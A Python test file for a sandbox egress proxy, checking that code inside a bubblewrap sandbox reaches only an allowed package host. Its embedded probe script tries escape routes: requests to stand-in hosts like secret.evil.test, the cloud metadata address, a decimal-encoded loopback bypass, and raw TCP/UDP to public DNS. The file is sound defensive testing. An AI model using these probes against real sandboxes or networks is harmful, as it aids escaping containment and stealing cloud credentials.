"""The egress proxy from inside a real sandbox: it is the only way out."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence

import pytest
from egress_world import World, world

from megacomposer.env.backends import open_backend
from megacomposer.env.egress.policy import proxy_environment
from megacomposer.env.sandbox import (
    EGRESS_PORT,
    BackendUnavailableError,
    SandboxBackend,
    SandboxSpec,
)
from megacomposer.env.task import EgressRule

CA_PATH = "/tmp/egress-ca.pem"
INSIDE = """
import json, socket, sys, urllib.error, urllib.request
http_port, https_port = sys.argv[1:]
found = {}

def attempt(name, what):
    try:
        found[name] = what()
    except urllib.error.HTTPError as error:
        found[name] = [error.code, error.read().decode()]
    except OSError as error:
        found[name] = f"{type(error).__name__}: {error}"

def get(url):
    with urllib.request.urlopen(url, timeout=30) as answer:
        return [answer.status, len(answer.read())]

def connect(kind, address):
    with socket.socket(kind, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(address)
        return "connected"

def send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"secret.evil.test", address)

attempt("http", lambda: get(f"http://pkg.test:{http_port}/open"))
attempt("https", lambda: get(f"https://pkg.test:{https_port}/open"))
attempt("long", lambda: get(f"https://pkg.test:{https_port}/stream/200"))
attempt("denied path", lambda: get(f"https://pkg.test:{https_port}/secret/x"))
attempt("denied host", lambda: get("http://secret.evil.test/"))
attempt("denied tunnel", lambda: get("https://dns.evil.test/dns-query"))
attempt("metadata", lambda: get("http://169.254.169.254/latest/meta-data"))
attempt("loopback by proxy", lambda: get(f"http://2130706433:{http_port}/"))
attempt("loopback", lambda: connect(socket.AF_INET, ("127.0.0.1", int(http_port))))
attempt("gateway", lambda: connect(socket.AF_INET, ("10.0.0.1", 80)))
attempt("public", lambda: connect(socket.AF_INET, ("1.1.1.1", 443)))
attempt("public 6", lambda: connect(socket.AF_INET6, ("2606:4700::1111", 443)))
attempt("udp dns", lambda: send(("1.1.1.1", 53)))
attempt("tcp dns", lambda: connect(socket.AF_INET, ("1.1.1.1", 53)))
attempt("name", lambda: socket.getaddrinfo("secret.evil.test", 80)[0][4][0])
print(json.dumps(found))
"""


def rules(w: World) -> Sequence[EgressRule]:
    ports = (w.http.port, w.https.port)
    return [EgressRule(host="pkg.test", ports=ports, deny_paths=("/secret/*",))]


async def _bubblewrap(w: World) -> SandboxBackend:
    try:
        return await open_backend("bubblewrap", store=w.folder / "layers")
    except BackendUnavailableError as error:
        pytest.skip(str(error))


def test_a_sandbox_reaches_what_the_policy_allows_and_nothing_else() -> None:
    """E14, E15, E16 of the escape suite."""

    async def main() -> None:
        async with world(rules) as w:
            backend = await _bubblewrap(w)
            env = proxy_environment(EGRESS_PORT, CA_PATH)
            spec = SandboxSpec(egress_socket=str(w.proxy.socket), env=env)
            async with await backend.start(spec) as sandbox:
                await sandbox.write_file(CA_PATH, w.proxy.ca_bundle_pem.encode())
                ports = (str(w.http.port), str(w.https.port))
                ran = await sandbox.exec(["python3", "-c", INSIDE, *ports], timeout_s=100)
                assert ran.ok, ran.stderr
                found = json.loads(ran.stdout)
            await backend.close()
            for name in ("http", "https", "long"):
                assert found[name][0] == 200, found[name]
            assert found["long"][1] == 200 * 65536
            assert found["denied path"][0] == 403
            assert "withheld" in found["denied path"][1]
            assert found["denied host"][0] == 403
            assert "403 egress denied: CONNECT dns.evil.test:443: only" in found["denied tunnel"]
            assert found["metadata"][0] == 403
            assert found["loopback by proxy"][0] == 400
            assert "refused" in found["loopback"]
            for name in ("gateway", "public", "public 6", "udp dns", "tcp dns", "name"):
                assert isinstance(found[name], str), (name, found[name])
                assert "Error" in found[name] or "error" in found[name], found[name]
            assert [entry["target"] for entry in w.http.seen] == ["/open"]
            assert [entry["target"] for entry in w.https.seen] == ["/open", "/stream/200"]
            assert set(w.lookups) == {"pkg.test"}
            denied = {(event["host"], event["reason"]) for event in w.events("egress_denied")}
            assert denied == {
                ("pkg.test", "denied_path"),
                ("secret.evil.test", "host"),
                ("dns.evil.test", "host"),
                ("169.254.169.254", "host"),
                ("", "malformed"),
            }

    asyncio.run(main())


def test_a_sandbox_without_a_proxy_has_no_network_at_all() -> None:
    async def main() -> None:
        async with world(rules) as w:
            backend = await _bubblewrap(w)
            env = proxy_environment(EGRESS_PORT, "")
            async with await backend.start(SandboxSpec(env=env)) as sandbox:
                ports = (str(w.http.port), str(w.https.port))
                ran = await sandbox.exec(["python3", "-c", INSIDE, *ports], timeout_s=100)
                assert ran.ok, ran.stderr
                found = json.loads(ran.stdout)
            await backend.close()
            assert all("Error" in str(f) or "error" in str(f) for f in found.values()), found
            assert w.http.seen == []
            assert w.audit.events == []

    asyncio.run(main())
